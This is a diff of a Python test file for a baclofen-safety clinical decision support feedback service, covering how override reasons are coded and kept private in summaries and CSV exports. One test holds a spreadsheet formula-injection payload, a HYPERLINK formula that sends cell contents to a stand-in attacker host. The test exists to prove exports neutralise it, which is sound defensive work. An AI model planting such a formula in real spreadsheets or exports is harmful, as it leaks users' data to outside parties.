@@ -30,9 +30,11 @@ from baclofen_safety.cdshooks.minting import Wish, as_toml, fresh_key, mint
 from baclofen_safety.cdshooks.schemas import MOST_PLACES
 from baclofen_safety.cdshooks.schemas_feedback import EPIC, read_batch
 from baclofen_safety.cdshooks.services import load_services
+from baclofen_safety.cdshooks.wording import override_display, override_reasons
 from baclofen_safety.config import Settings
 from baclofen_safety.errors import BadInput
 from baclofen_safety.fhir.resources import check_output
+from baclofen_safety.store import Feedback, Reason
 from baclofen_safety.store.sql import SqlStore
 from baclofen_safety.web.errors import answer_errors
 from baclofen_safety.web.feedback import feedback_door
@@ -43,6 +45,8 @@ FIRST, SECOND = "d1577c69-dfbe-44ad-ba6d-3e05e953b2ea", "0a3b9d2c-5c7e-4a51-9a5e
 RENAL, STOP = "BAC-RENAL-04", "BAC-WD-01"
 SYSTEM = "http://terminology.hl7.org/CodeSystem/non-adherence-reason-codes"
 WORDS = "Recipient assessment of risk/benefit ratio"
+MORE = "need-more-info"
+MORE_WORDS = "Could not address recommended action due to need for more information/pending results/pending consult"
 SECRET = "Mrs Secret, born 1950-01-01"
 SIGN = "/cds-services/baclofen-order-sign/feedback"
 SERVICES = load_services()
@@ -144,26 +148,30 @@ EPIC_REASON = {
 @pytest.mark.parametrize(
     ("told", "system", "code", "display"),
     [
-        (because("a"), SYSTEM, "a", ""),
-        (because("a", userComment=SECRET), SYSTEM, "a", ""),
-        ({"overrideReasons": because("a")["overrideReason"]}, SYSTEM, "a", ""),
-        ({"overrideReasons": [because("a")["overrideReason"]]}, SYSTEM, "a", ""),
-        ({"overrideReason": {"reason": [{"code": "a", "system": SYSTEM}]}}, SYSTEM, "a", ""),
-        ({"overrideReason": {"reason": {"code": "a", "system": ""}}}, "", "a", ""),
-        ({"overrideReason": {"reason": {"code": "a", "display": "Words"}}}, "", "a", "Words"),
-        ({"overrideReason": {"reason": {"display": "Words only"}}}, "", "Words only", "Words only"),
-        ({"overrideReasons": {"extension": EPIC_REASON}}, EPIC, "45", "Does not meet criteria"),
-        ({"overrideReasons": {"extension": EPIC_REASON, "userComment": SECRET}}, EPIC, "45", "Does not meet criteria"),
+        (because(MORE), SYSTEM, MORE, MORE_WORDS),
+        (because(MORE, userComment=SECRET), SYSTEM, MORE, MORE_WORDS),
+        ({"overrideReasons": because(MORE)["overrideReason"]}, SYSTEM, MORE, MORE_WORDS),
+        ({"overrideReasons": [because(MORE)["overrideReason"]]}, SYSTEM, MORE, MORE_WORDS),
+        ({"overrideReason": {"reason": [{"code": MORE, "system": SYSTEM}]}}, SYSTEM, MORE, MORE_WORDS),
+        ({"overrideReason": {"reason": {"code": MORE, "system": ""}}}, SYSTEM, MORE, MORE_WORDS),
+        ({"overrideReason": {"reason": {"code": MORE, "display": SECRET}}}, SYSTEM, MORE, MORE_WORDS),
+        ({"overrideReason": {"reason": {"code": MORE, "system": "urn:x"}}}, "", "other", ""),
+        ({"overrideReason": {"reason": {"code": SECRET, "system": SYSTEM}}}, "", "other", ""),
+        ({"overrideReason": {"reason": {"display": SECRET}}}, "", "other", ""),
+        ({"overrideReasons": {"extension": EPIC_REASON}}, EPIC, "45", ""),
+        ({"overrideReasons": {"extension": EPIC_REASON, "userComment": SECRET}}, EPIC, "45", ""),
         ({"overrideReason": {"extension": {f"{EPIC}.reasonCategory": 45}}}, EPIC, "45", ""),
-        ({"overrideReasons": {"extension": {f"{EPIC}.reasonTitle": "Criteria"}}}, EPIC, "Criteria", "Criteria"),
-        ({**because("a"), "overrideReasons": {"extension": {"other": {}}}}, SYSTEM, "a", ""),
-        ({"overrideReasons": {**because("a")["overrideReason"], "extension": EPIC_REASON}}, SYSTEM, "a", ""),
+        ({"overrideReason": {"extension": {f"{EPIC}.reasonCategory": SECRET}}}, "", "other", ""),
+        ({"overrideReasons": {"extension": {f"{EPIC}.reasonTitle": SECRET}}}, "", "other", ""),
+        ({**because(MORE), "overrideReasons": {"extension": {"other": {}}}}, SYSTEM, MORE, MORE_WORDS),
+        ({"overrideReasons": {**because(MORE)["overrideReason"], "extension": EPIC_REASON}}, SYSTEM, MORE, MORE_WORDS),
     ],
 )
 def test_every_way_to_say_why(client: FlaskClient, told: dict[str, Any], system: str, code: str, display: str) -> None:
     assert send(client, overridden(**told)) == 1
     (reason,) = figures(client)[RENAL]["reasons"]
     assert reason == {"system": system, "code": code, "display": display, "count": 1}
+    assert "Secret" not in client.get("/feedback/summary").text + client.get("/feedback/summary?format=csv").text
     assert figures(client)[RENAL]["unexplained"] == 0
 
 
@@ -297,7 +305,7 @@ def test_whatever_is_sent_is_read_or_refused(value: Any) -> None:
 
 def test_text_no_database_keeps_is_kept_nearly(client: FlaskClient) -> None:
     assert send(client, overridden(**because("a\0b", userComment="\0\ud800 x"))) == 1
-    assert figures(client)[RENAL]["reasons"][0]["code"] == "a\ufffdb"
+    assert figures(client)[RENAL]["reasons"][0]["code"] == "other"
 
 
 def test_a_comment_is_in_no_log_and_no_answer(
@@ -307,7 +315,7 @@ def test_a_comment_is_in_no_log_and_no_answer(
     capfd: pytest.CaptureFixture[str],
 ) -> None:
     caplog.set_level(logging.DEBUG)
-    told = because("a", userComment=SECRET)
+    told = because(MORE, userComment=SECRET)
     with structlog.testing.capture_logs() as logs:
         answers = [
             client.post(SIGN, json={"feedback": [overridden(**told)]}),
@@ -337,7 +345,7 @@ def test_a_comment_is_not_logged_when_the_store_fails(
         return jsonify(new=take(SERVICES["baclofen-order-sign"], request.get_json(), "ward", NOW))
 
     with structlog.testing.capture_logs() as logs:
-        told = because("a", userComment=SECRET)
+        told = because(MORE, userComment=SECRET)
         answer = app.test_client().post(SIGN, json={"feedback": [overridden(**told)]})
     assert answer.status_code == 503
     assert [line["kind"] for line in logs] == ["StoreError"]
@@ -345,11 +353,43 @@ def test_a_comment_is_not_logged_when_the_store_fails(
 
 
 def test_comments_are_kept_and_can_be_forgotten(client: FlaskClient, store: SqlStore) -> None:
-    send(client, overridden(**because("a", userComment=SECRET)), accepted(), overridden(STOP))
+    send(client, overridden(**because(MORE, userComment=SECRET)), accepted(), overridden(STOP))
     before = client.get("/feedback/summary").json
     assert store.forget_comments(NOW) == 0
     assert store.forget_comments(NOW + timedelta(seconds=1)) == 1
     assert client.get("/feedback/summary").json == before
+
+
+@pytest.mark.parametrize(
+    ("told", "kept"),
+    [
+        ({"reason": {"code": SECRET, "system": SYSTEM}}, 1),
+        ({"reason": {"code": MORE, "system": SYSTEM, "display": SECRET}}, 1),
+        ({"extension": EPIC_REASON}, 1),
+        ({"reason": {"code": MORE, "system": SYSTEM, "display": MORE_WORDS}}, 0),
+        ({"reason": {"code": MORE}}, 0),
+    ],
+)
+def test_words_of_a_reason_are_kept_as_comments_are(
+    client: FlaskClient, store: SqlStore, told: dict[str, Any], kept: int
+) -> None:
+    send(client, overridden(overrideReason=told))
+    assert store.forget_comments(NOW + timedelta(seconds=1)) == kept
+
+
+def test_words_of_a_reason_that_were_counted_before_are_not_shown(client: FlaskClient, store: SqlStore) -> None:
+    old = Feedback(
+        card="c",
+        outcome="overridden",
+        at=NOW,
+        received=NOW,
+        service="baclofen-order-sign",
+        client="ward",
+        rule=RENAL,
+        reasons=(Reason("urn:x", SECRET, SECRET), Reason("", "words", SECRET)),
+    )
+    store.add_feedback([old])
+    assert figures(client)[RENAL]["reasons"] == [{"system": "", "code": "other", "display": "", "count": 2}]
 
 
 def test_the_summary_says_where_it_is_kept(client: FlaskClient, store: SqlStore, assessor: Assessor) -> None:
@@ -392,13 +432,13 @@ def rows(client: FlaskClient) -> list[list[str]]:
 
 
 def test_the_table_says_what_the_json_says(client: FlaskClient, assessor: Assessor) -> None:
-    send(client, accepted(), overridden(**because("a")), overridden(instance=SECOND))
+    send(client, accepted(), overridden(**because(MORE)), overridden(instance=SECOND))
     head = [RENAL, assessor.book.sheets[RENAL].title, "baclofen-order-sign"]
     assert rows(client) == [
         list(COLUMNS),
         [*head, "accepted", "", "", "", "1"],
         [*head, "overridden", "", "", "", "2"],
-        [*head, "reason", SYSTEM, "a", "", "1"],
+        [*head, "reason", SYSTEM, MORE, MORE_WORDS, "1"],
         [*head, "no-reason", "", "", "", "1"],
     ]
 
@@ -408,10 +448,8 @@ def test_no_cell_is_a_formula(client: FlaskClient, start: str) -> None:
     cell = f'{start}HYPERLINK("https://evil.example?"&A1,"x")'
     reason = {"code": cell, "system": cell, "display": cell}
     send(client, overridden(overrideReason={"reason": reason}))
-    row = rows(client)[-2 if rows(client)[-1][3] == "no-reason" else -1]
-    assert row[3] == "reason"
-    assert all(one.startswith("'") for one in row[4:7])
-    assert [one[1:] for one in row[4:7]] == [cell.strip()] * 3
+    assert [one[3:] for one in rows(client)[-1:]] == [["reason", "", "other", "", "1"]]
+    assert "HYPERLINK" not in str(rows(client))
 
 
 @given(st.text())
@@ -422,14 +460,15 @@ def test_a_harmless_cell_begins_with_no_sign_and_loses_nothing(cell: str) -> Non
 
 
 def test_reasons_are_most_frequent_first_under_one_name(client: FlaskClient) -> None:
+    a, b, c = (one["code"] for one in override_reasons()[:3])
     items = [
         overridden(instance=f"{number}", overrideReason={"reason": {"code": code, "system": SYSTEM, "display": words}})
-        for number, (code, words) in enumerate([("b", ""), ("a", "A"), ("b", "B"), ("c", "C"), ("a", ""), ("b", "")])
+        for number, (code, words) in enumerate([(b, ""), (a, "A"), (b, "B"), (c, "C"), (a, ""), (b, "")])
     ]
     send(client, *items[:3])
     send(client, *items[3:], to=SIGN.replace("order-sign", "order-select"))
     told = [(one["code"], one["display"], one["count"]) for one in figures(client)[RENAL]["reasons"]]
-    assert told == [("b", "B", 3), ("a", "A", 2), ("c", "C", 1)]
+    assert told == [(code, override_display(SYSTEM, code), n) for code, n in ((b, 3), (a, 2), (c, 1))]
 
 
 @pytest.mark.parametrize("query", ["", "?format=csv", "?format=xlsx"])
